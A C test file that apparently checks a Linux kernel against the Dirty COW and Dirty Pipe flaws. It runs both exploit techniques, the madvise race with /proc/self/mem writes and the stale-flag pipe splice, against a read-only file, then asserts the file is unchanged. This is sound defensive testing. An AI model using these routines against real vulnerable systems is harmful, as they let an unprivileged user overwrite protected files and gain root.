/* Tries to change a file that may only be read, the ways that Dirty COW and Dirty Pipe did. Usage: copies FILE; as user 1000. */
#include "case.h"

#define ROUNDS 4000
#define MARK "BROKEN!"

static const char *path;
static char *map;
static volatile int stop;

/* Whether the file starts with what we tried to write, read afresh. */
static int is_changed(void) {
    char text[sizeof MARK] = "";
    int fd = open(path, O_RDONLY);
    ssize_t length = pread(fd, text, sizeof text - 1, 0);
    close(fd);
    return length > 0 && strncmp(text, MARK, strlen(MARK)) == 0;
}

static void *give_up(void *unused) {
    while (!stop) madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

/* CVE-2016-5195: a write to one's own private mapping through /proc/self/mem, while the copy that it is to go to is thrown away. */
static void dirty_cow(void) {
    int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    pthread_t thread;
    pthread_create(&thread, 0, give_up, 0);
    for (int i = 0; i < ROUNDS; i++) {
        pwrite(memory, MARK, strlen(MARK), (off_t)map);
        struct iovec from = {MARK, strlen(MARK)}, to = {map, strlen(MARK)};
        process_vm_writev(getpid(), &from, 1, &to, 1, 0);
    }
    stop = 1;
    pthread_join(thread, 0);
    EQ("the file behind a private mapping is unchanged", is_changed(), 0);
    munmap(map, 4096);
    close(memory);
    map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
    strcpy(map, MARK);
    EQ("a private copy shows what was written", strcmp(map, MARK), 0);
    madvise(map, 4096, MADV_DONTNEED);
    EQ("and the file's contents once it is thrown away", strncmp(map, MARK, strlen(MARK)) != 0, 1);
    EQ("which are unchanged", is_changed(), 0);
    ERR("a shared mapping of it is not writable", mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0, EACCES);
    void *shared = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
    ERR("and does not become so", mprotect(shared, 4096, PROT_READ | PROT_WRITE), EACCES);
    close(fd);
}

/* CVE-2022-0847: a page of a file in a pipe, and a write that is merged into it since flags of an earlier buffer were left. */
static void dirty_pipe(void) {
    int fds[2], fd = open(path, O_RDONLY);
    char buffer[4096] = "";
    pipe(fds);
    int size = fcntl(fds[1], F_GETPIPE_SZ);
    for (int left = size; left > 0;) left -= write(fds[1], buffer, left > 4096 ? 4096 : left);
    for (int left = size; left > 0;) left -= read(fds[0], buffer, left > 4096 ? 4096 : left);
    loff_t offset = 0;
    OK("splice of one byte", splice(fd, &offset, fds[1], 0, 1, 0));
    EQ("the write behind it", write(fds[1], MARK, strlen(MARK)), strlen(MARK));
    EQ("the file spliced from is unchanged", is_changed(), 0);
    int copy[2];
    pipe(copy);
    OK("tee", tee(fds[0], copy[1], 4096, 0));
    write(copy[1], MARK, strlen(MARK));
    EQ("nor by a write behind a tee", is_changed(), 0);
    offset = 0;
    splice(fd, &offset, copy[1], 0, 4096, SPLICE_F_MOVE);
    struct iovec gift = {MARK, strlen(MARK)};
    vmsplice(copy[1], &gift, 1, SPLICE_F_GIFT);
    offset = 0;
    ERR("splice into it", splice(fds[0], 0, fd, &offset, 16, 0), EBADF);
    EQ("and is unchanged in the end", is_changed(), 0);
}

int main(int argc, char **argv) {
    path = argv[1];
    setgid(1000);
    setuid(1000);
    ERR("the file cannot be opened for writing", open(path, O_WRONLY) < 0 && (errno == EACCES || errno == EROFS) ? (errno = EACCES, -1) : 0, EACCES);
    dirty_cow();
    dirty_pipe();
    puts("done");
    return 0;
}
